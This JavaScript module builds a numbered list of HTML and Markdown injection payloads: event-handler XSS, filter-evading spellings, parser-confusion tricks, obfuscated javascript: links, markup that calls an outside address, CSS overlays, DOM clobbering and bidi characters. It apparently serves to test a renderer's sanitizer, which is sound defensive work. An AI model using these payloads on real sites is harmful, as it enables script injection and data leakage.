// Texts that want the page for themselves, by what they try. Each is given what a script of its own would do, and an address
// elsewhere that it may call; either tells which text it was.

/** Elements that act by themselves as soon as they are in a page, each with what it acts at. */
const ACTORS = [
  "img src=x onerror",
  "svg onload",
  "body onload",
  "input autofocus onfocus",
  "select autofocus onfocus",
  "textarea autofocus onfocus",
  "button autofocus onfocus",
  "details open ontoggle",
  "video src=x onerror",
  "audio src=x onerror",
  "video autoplay controls onloadstart",
  "iframe onload",
  "object data=x onerror",
  "embed src=x onload",
  "style onload",
  "marquee onstart",
  "b tabindex=0 autofocus onfocus",
  "p contenteditable autofocus onfocus",
  "a href=# autofocus onfocus",
  "unknown-one tabindex=0 autofocus onfocus",
  "svg><animate attributeName=x dur=1s onbegin",
  "svg><set attributeName=x onbegin",
  "math tabindex=0 autofocus onfocus",
  "script src=x onerror",
  "link rel=stylesheet href=x onerror",
  "p style=animation:x onanimationstart",
  "dialog open onbeforetoggle",
  "q popover onbeforetoggle",
];

/** Ways to write a tag so that one who looks for it finds none, but a browser may. */
const SPELLINGS = {
  quoted: (tag, run) => `<${tag}="${run}">`,
  unclosed: (tag, run) => `<${tag}=${run} `,
  shouted: (tag, run) => `<${tag.toUpperCase()}='${run}'>`,
  slashed: (tag, run) => `<${tag.replaceAll(" ", "/")}=${run}//>`,
  "over lines": (tag, run) => `<${tag.replaceAll(" ", "\n")}\n=\n"${run}"\n>`,
  tabbed: (tag, run) => `<${tag.replaceAll(" ", "\t")}\t=\t'${run}'>`,
  doubled: (tag, run) => `<<${tag}="${run}">>`,
  "with entities": (tag, run) => `<${tag}="${coded(run)}">`,
  escaped: (tag, run) => `&lt;${tag}="${run}"&gt;`,
  "with a null": (tag, run) => `<${tag[0]}\0${tag.slice(1)}="${run}">`,
  "behind a closed tag": (tag, run) => `</b/x="${run}"><${tag}="${run}"/>`,
  "in a quoted attribute": (tag, run) => `<b title="><${tag}='${run}'>">x</b>`,
  wide: (tag, run) => `＜${tag}="${run}"＞`,
};

const coded = (text) => Array.from(text, (sign) => `&#x${sign.codePointAt(0).toString(16)}`).join(";") + ";";

/** Ways to put HTML where a parser changes its mind about what it is. */
const CONFUSIONS = [
  (tag) => `<svg></p><style><a id="</style>${tag}">`,
  (tag) => `<math><mtext><table><mglyph><style><!--</style><a title="-->${tag}">`,
  (tag) => `<form><math><mtext></form><form><mglyph><style></math>${tag}`,
  (tag) => `<noscript><p title="</noscript>${tag}">`,
  (tag) => `<noscript><style></noscript>${tag}</style>`,
  (tag) => `<svg><foreignobject><p><style><g title="</style>${tag}">`,
  (tag) => `<math><annotation-xml encoding="text/html"><style>${tag}</style>`,
  (tag) => `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea>${tag}">`,
  (tag) => `<select><template><style><!--</style><a rel="--></style></template></select>${tag}">`,
  (tag) => `<table><caption><svg><title><table><caption></title><style>${tag}</style>`,
  (tag) => `<svg><desc><style>${tag}`,
  (tag) => `<b><style><title>${tag}</title></style></b>`,
  (tag) => `${"<div>".repeat(600)}<svg><style><a title="</style>${tag}">`,
  (tag) => `${"<b>".repeat(300)}<table><td>${tag}`,
  (tag) => `<template shadowrootmode=open>${tag}</template>`,
  (tag) => `<template>${tag}</template>`,
  (tag) => `<!--><b>--${tag}-->`,
  (tag) => `<!-- --!>${tag} -->`,
  (tag) => `<!--->${tag}-->`,
  (tag) => `<?x >${tag}?>`,
  (tag) => `<![CDATA[>${tag}]]>`,
  (tag) => `<svg><![CDATA[</svg>${tag}]]>`,
  (tag) => `<!DOCTYPE x [<!ENTITY y '${tag}'>]>&y;`,
  (tag) => `<xmp><p title="</xmp>${tag}">`,
  (tag) => `<title><p title="</title>${tag}">`,
  (tag) => `<textarea><p title="</textarea>${tag}">`,
  (tag) => `<noembed><p title="</noembed>${tag}">`,
  (tag) => `<iframe><p title="</iframe>${tag}">`,
  (tag) => `<plaintext>${tag}`,
  (tag) => `<pre><code title="</code></pre>${tag}">`,
  (tag) => `<details><summary title="</summary>${tag}">`,
  (tag) => `<kbd\n${tag}`,
  (tag) => `<var title="block">\\href{x}{${tag}}</var>`,
  (tag) => `<sup title='${tag}'>1</sup>`,
];

const SCRIPTS = [
  (run) => `<script>${run}</script>`,
  (run) => `<script type=module>${run}</script>`,
  (run) => `<SCRIPT/x>${run}</SCRIPT\n>`,
  (run) => `<scr<script>ipt>${run}</scr</script>ipt>`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg><script href="data:,${run}" /></svg>`,
  (run) => `<math><script>${run}</script></math>`,
  (run) => `</script><script>${run}</script>`,
  (run) => `<script src="data:text/javascript,${run}"></script>`,
  (run) => `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  (run) => `<iframe src="javascript:${run}"></iframe>`,
  (run) => `<iframe src="data:text/html,<script>${run}</script>"></iframe>`,
  (run) => `<object data="data:text/html,<script>${run}</script>"></object>`,
  (run) => `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>">`,
  (run) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  (run) => `<form action="javascript:${run}"><input type=submit autofocus></form>`,
  (run) => `<svg><a href="javascript:${run}"><text y=20>press</text></a></svg>`,
  (run) => `<math href="javascript:${run}">press</math>`,
  (run) => `<p>{{constructor.constructor('${run}')()}} \${${run}} #{${run}} <%= ${run} %></p>`,
];

/** Ways to write an address so that it is not known for what it does. */
const SCHEMES = [
  (run) => `javascript:${run}`,
  (run) => `JaVaScRiPt:${run}`,
  (run) => `java&#x73;cript:${run}`,
  (run) => `javascript&colon;${run}`,
  (run) => `java&Tab;script:${run}`,
  (run) => `java&NewLine;script:${run}`,
  (run) => `&#1;javascript:${run}`,
  (run) => `\u200bjavascript:${run}`,
  (run) => `java\u00adscript:${run}`,
  (run) => `javascript:/*https://example.org/*/${run}`,
  (run) => `javascript://example.org/%0a${run}`,
  (run) => `javascript%3A${run}`,
  (run) => `vbscript:${run}`,
  (run) => `data:text/html,<script>${run}</script>`,
  (run) => `data:text/html;base64,${Buffer.from(`<script>${run}</script>`).toString("base64")}`,
  (run) => `data:image/svg+xml,<svg/onload=${run}>`,
  (run) => `blob:https://example.org/${run}`,
  (run) => `view-source:javascript:${run}`,
  (run) => `feed:javascript:${run}`,
  (run) => `mailto:a@example.org?body="onmouseover=${run}`,
];

/** Where Markdown takes an address. */
const LINKS = [
  (address) => `[press](<${address}>)`,
  (address) => `<${address}>`,
  (address) => `![picture](<${address}> "title")`,
  (address) => `[press][r]\n\n[r]: <${address}>`,
  (address) => `so <a href="${address}">press</a>`,
  (address) => `<a title='x' href='${address}' onclick=x target=_self>\npress\n</a>`,
];

/** Markdown that breaks out of what is made of it. */
const BREAKOUTS = [
  (run) => `[words](https://example.org "\\" onmouseover=${run} x=\\"")`,
  (run) => `[words](https://example.org/"onmouseover="${run})`,
  (run) => `![" onerror=${run} x="](x)`,
  (run) => `![x](data:image/png,"onerror="${run})`,
  (run) => `![x](data:image/png;base64,AAAA "' onerror='${run}")`,
  (run) => `https://example.org/"onmouseover=${run}//`,
  (run) => `www.example.org"onmouseover=${run}`,
  (run) => `<a"onmouseover=${run}@example.org>`,
  (run) => `\`\`\`html" onmouseover="${run}\n<b>\n\`\`\``,
  (run) => `~~~<img src=x onerror=${run}>\nx\n~~~`,
  ...["html", "xml", "php", "markdown", "css", "javascript", "diff", ""].map(
    (language) => (run) => `\`\`\`${language}\n</code></pre><img src=x onerror=${run}><script>${run}</script>\n\`\`\``,
  ),
  (run) => `\`<img src=x onerror=${run}>\``,
  (run) => `    <img src=x onerror=${run}>`,
  (run) => `| <img src=x onerror=${run}> | b |\n|:-"onx=${run}-|---|\n| <svg onload=${run}> | x |`,
  (run) => `| a |\n|:-:|\n| [x](javascript:${run}) ![](x"onerror=${run}) |`,
  (run) => `x[^"><img/src=x/onerror=${run}>]\n\n[^"><img/src=x/onerror=${run}>]: <svg onload=${run}>`,
  (run) => `> [!NOTE]\n> <img src=x onerror=${run}> [x](javascript:${run})`,
  (run) => `> [!NOTE" onmouseover="${run}]\n> x`,
  (run) => `$\\href{javascript:${run}}{x}$`,
  (run) => `$$\\url{javascript:${run}} \\includegraphics{x" onerror="${run}}$$`,
  (run) => `$\\text{<img src=x onerror=${run}>}$ and $\\unicode{x3c}script$`,
  (run) => `$\\class{x" onmouseover="${run}}{y} \\id{app}{z} \\data{x=1}{y}$`,
  (run) => `$\\style{position:fixed;inset:0}{x} \\color{red;background:url(x)}{y}$`,
  (run) => `$$</annotation></semantics></math><img src=x onerror=${run}>$$`,
  (run) => `\\(\\htmlData{onload=${run}}{x}\\)`,
  (run) => `# <img src=x onerror=${run}> {#app onload=${run}}`,
  (run) => `- [ ] <input type=checkbox onfocus=${run} autofocus>`,
  (run) => `<details open ontoggle=${run}><summary>x</summary>\n\n<img src=x onerror=${run}>\n\n</details>`,
  (run) => `**<img src=x *onerror*=${run}>** ~~<svg ~~onload=${run}>`,
  (run) => `[<img src=x onerror=${run}>](https://example.org)`,
  (run) => `[![x](javascript:${run})](javascript:${run})`,
  (run) => `[1](javascript:${run}) [2][9]\n\n[9]: javascript:${run}`,
  ...["code", "kbd", "pre", "script"].map((tag) => (run) => `a <${tag}>b\n<img src=x onerror=${run} `),
  (run) => `\\<img src=x onerror=${run}\\>`,
  (run) => `x <a href="https://example.org" onmouseover=${run} style="position:fixed;inset:0" id=app>press</a>`,
  (run) => `<a href='https://example.org/"onmouseover=${run}'>x <a href=javascript:${run}>press</a></a>`,
  (run) =>
    `[x <a href="javascript:${run}">press</a>](https://example.org) <a title='"><img src=x onerror=${run}>'>x</a>`,
  (run) => `<https://example.org/<img/src=x/onerror=${run}>>`,
];

/** What makes a browser call elsewhere, or would take a reader there. */
const LEAKS = [
  (there) => `<img src="${there}">`,
  (there) => `<img srcset="${there} 2x" sizes=1px loading=eager>`,
  (there) => `<picture><source srcset="${there}"><img></picture>`,
  (there) => `<video poster="${there}" src="${there}" autoplay><track src="${there}" default></video>`,
  (there) => `<audio src="${there}" autoplay><source src="${there}"></audio>`,
  (there) => `<iframe src="${there}"></iframe><frame src="${there}"><portal src="${there}">`,
  (there) => `<object data="${there}"><param name=movie value="${there}"></object><embed src="${there}">`,
  (there) => `<image src="${there}"><input type=image src="${there}"><bgsound src="${there}">`,
  (there) => `<svg><image href="${there}" xlink:href="${there}" /><use href="${there}#x" /></svg>`,
  (there) => `<svg><filter><feImage href="${there}" /></filter><style>@import "${there}"</style></svg>`,
  (there) => `<table background="${there}"><td background="${there}">x</table>`,
  (there) => `<body background="${there}"><html manifest="${there}">`,
  (there) => `<base href="${there}/"><a href="x">x</a><img src="x">`,
  (there) => `<base target=_top><base href="${there}">`,
  (there) => `<meta http-equiv=refresh content="0;url=${there}">`,
  (there) => `<meta http-equiv=Content-Security-Policy content="img-src *; report-uri ${there}">`,
  (there) => `<meta name=referrer content=unsafe-url><meta http-equiv=set-cookie content=a=b>`,
  ...[
    "stylesheet",
    "preload",
    "prefetch",
    "dns-prefetch",
    "preconnect",
    "icon",
    "manifest",
    "modulepreload",
    "import",
  ].map((rel) => (there) => `<link rel=${rel} as=image href="${there}">`),
  (there) => `<form action="${there}" method=post><button formaction="${there}" autofocus>Log in</button></form>`,
  (there) => `<a href="${there}" ping="${there}">x</a><area ping="${there}">`,
  (there) =>
    `<blockquote cite="${there}"><q cite="${there}">x</q></blockquote><img longdesc="${there}" lowsrc="${there}">`,
  (there) => `<img src='${there}?`,
  (there) => `<a href='${there}?`,
  (there) => `<form action='${there}'><textarea name=x>`,
  (there) => `<button form=composer formaction="${there}">x</button><input form=composer name=x>`,
  (there) => `![x](${there})`,
  (there) => `![x][r]\n\n[r]: ${there}`,
  (there) => `![x](${there.slice(5)})`,
  (there) => `![x](${there.replace("http://", "\\\\\\\\")})`,
  (there) => `![x](${there.replace("http", "HTTP").replace("//", "/\\")})`,
  (there) => `![x](${there.replace("//", "")}) ![x](/../..//${there.slice(7)})`,
  (there) => `![x](&#104;ttp${there.slice(4)}) ![x](\u2003${there})`,
  (there) => `[![x](${there})](${there}) [<img src=${there}>](x)`,
  (there) => `![x](<data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${there}'/></svg>>)`,
  (there) => `$\\includegraphics[width=9em]{${there}}$ $\\href{${there}}{x}$`,
  (there) => `x[^1]\n\n[^1]: ![x](${there}) <img src=${there}>`,
  (there) => `\`\`\`html\n<img src="${there}">\n\`\`\``,
];

/** What would lay itself over the page, or take its looks. */
const STYLES = [
  (there) => `<p style="background:url(${there})">x</p>`,
  (there) => `<div style="position:fixed;inset:0;z-index:9999;background:red">over all</div>`,
  (there) => `<span style="position:absolute;top:0;font-size:900px">x</span>`,
  (there) => `<style>@import url(${there});</style>`,
  (there) => `<style>*{background:url(${there})!important}</style>`,
  (there) => `<style>input[value^=a]{background:url(${there})}@font-face{font-family:x;src:url(${there})}</style>`,
  (there) => `<div style="width:expression(alert(1));behavior:url(${there});-moz-binding:url(${there})">x</div>`,
  (there) => `<b style='x:\\75rl(${there})'>x</b><i style="content:'</style><img src=${there}>'">x</i>`,
  () => `<div class="notices composer visually-hidden" role=alert aria-live=assertive>x</div>`,
  () => `<h3 class=hljs-x tabindex=0 role=dialog aria-modal=true>x</h3>`,
  () => `<div popover id=p>x</div><button popovertarget=p>x</button>`,
  () => `<dialog open>x</dialog><details open name=x><summary>x</summary>y</details>`,
  () => `<center><font size=7 color=red><blink><marquee width=9999>x</marquee></blink></font></center>`,
  () => `<table width=99999 height=99999><td width=99999>x</table>`,
  () => `<hr size=9999 width=9999><pre width=9999>${"x".repeat(900)}</pre>`,
  () => `<ol start=-99999999999><li value=99999999999>x</ol>`,
  () => `<kbd hidden>x</kbd><p inert>y</p><p dir=rtl lang=xx translate=no>z</p>`,
];

/** Names that the page's own would be looked up by. */
const NAMES = [
  "app",
  "askd-page",
  "location",
  "document",
  "body",
  "getElementById",
  "querySelector",
  "cookie",
  "top",
  "fetch",
];
const CLOBBERS = [
  ...NAMES.map((name) => () => `<a id=${name}></a><form name=${name}><input name=attributes></form><img name=${name}>`),
  () => `<form id=x><input name=parentNode><input name=removeChild><output name=childNodes></form>`,
  () => `<a id=config><a id=config name=url href=//example.org>`,
  () => `<iframe name=opener></iframe><object id=trustedTypes></object>`,
];

/** Signs that turn a line around, hide in it, or leave it. */
const SIGNS = [
  "\u202etxt.exe\u202c \u202eunclosed",
  "\u2066\u2067\u2068 isolates \u2066 left open",
  "\u202d\u202a\u202b embeddings left open",
  "\u200e\u200f\u061c marks",
  "a\u200bb\u200cc\u200dd\ufeffe zero width",
  "[https://example.org](https://example.com/\u202egro.elpmaxe)",
  "Z\u0310\u0311\u0312".repeat(40),
  "e" + "\u0301".repeat(400),
  "\u{e0041}\u{e0042}\u{e007f} tags",
  "\u2028line\u2029paragraph\u0085next",
  "\ufff9a\ufffab\ufffb \ufffc \ufffd",
  "ﷺﷺﷺ ".repeat(30) + "𒐫".repeat(30),
  "\u0007\u0008\u001b[31mred\u007f",
  "שלום <b>\u202eabc</b> (עברית) [x](https://example.org) 123",
].map((text) => () => text);

/** All of them, for an address to call: by its number a text is found again. */
export function attacks(there) {
  const made = [];
  const add = (kind, makers) =>
    makers.forEach((make, at) => {
      const n = made.length;
      const text = make(`top.owned=${n}`, `${there}/${n}`).replaceAll("\0", "\ufffd");
      made.push({ n, name: `${kind} ${at + 1}`, text });
    });
  add(
    "actor",
    ACTORS.map((tag) => (run) => `<${tag}=${run}>x`),
  );
  for (const [spelling, write] of Object.entries(SPELLINGS))
    add(
      spelling,
      [ACTORS[0], ACTORS[1], ACTORS[7]].map((tag) => (run) => write(tag, run)),
    );
  add(
    "confusion",
    CONFUSIONS.map((put) => (run) => put(`<img src=x onerror=${run}>`)),
  );
  add("script", SCRIPTS);
  for (const [at, link] of LINKS.entries())
    add(
      `link ${at + 1}`,
      SCHEMES.map((scheme) => (run) => link(scheme(run))),
    );
  add("breakout", BREAKOUTS);
  add(
    "leak",
    LEAKS.map((make) => (_, there) => make(there)),
  );
  add(
    "style",
    STYLES.map((make) => (_, there) => make(there)),
  );
  add("clobber", CLOBBERS);
  add("sign", SIGNS);
  return made;
}
